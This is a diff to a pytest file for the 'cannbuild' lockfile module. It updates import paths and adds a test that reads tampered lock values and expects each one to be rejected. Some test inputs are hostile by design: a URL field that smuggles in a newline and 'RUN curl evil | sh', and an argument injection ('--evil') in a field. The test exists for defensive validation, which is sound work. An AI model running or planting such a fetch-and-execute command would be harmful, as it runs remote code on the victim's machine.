@@ -3,7 +3,7 @@ from pathlib import Path
 import pytest
 
 from cannbuild.errors import UsageError
-from cannbuild.lockfile import Wanted, drift, read_lock, write_lock
+from cannbuild.sources.lock import Wanted, drift, read_lock, write_lock
 
 from lockdata import sample_lock
 
@@ -63,7 +63,7 @@ def test_a_malformed_lock_is_a_clear_error(tmp_path: Path):
 def test_a_lock_names_the_checkouts_each_archive_goes_into(tmp_path: Path):
     from dataclasses import replace
 
-    from cannbuild.lockfile import LockedArchive
+    from cannbuild.sources.lock import LockedArchive
 
     lock = replace(
         LOCK,
@@ -86,3 +86,28 @@ def test_a_version_1_lock_is_read_and_reported_as_needing_a_relock(tmp_path: Pat
     assert old is not None and old.version == 1 and old.repos == LOCK.repos
     problems = drift(old, WANTED)
     assert len(problems) == 1 and "the lock has version 1 (an older cannbuild)" in problems[0]
+
+
+@pytest.mark.parametrize(
+    "old, new, word",
+    [
+        ('commit = "' + "a" * 40 + '"', "commit = 42", "commit"),
+        ('commit = "' + "a" * 40 + '"', 'commit = "HEAD"', "40-hex"),
+        (
+            'url = "https://gitcode.com/cann/opbase.git"',
+            'url = "https://gitcode.com/cann/opbase.git\\nRUN curl evil | sh"',
+            "single-line",
+        ),
+        ('sha256 = "' + "d" * 64 + '"', 'sha256 = "abc"', "sha256"),
+        ('soc = "ascend910_93"', 'soc = "ascend910_93 --evil"', "plain word"),
+    ],
+)
+def test_lock_values_are_checked_when_read(tmp_path: Path, old, new, word):
+    path = tmp_path / "cannbuild.lock"
+    write_lock(path, sample_lock("8.5.0"))
+    text = path.read_text()
+    assert old in text
+    path.write_text(text.replace(old, new, 1))
+    with pytest.raises(UsageError, match=word) as err:
+        read_lock(path)
+    assert str(path) in err.value.paragraph()
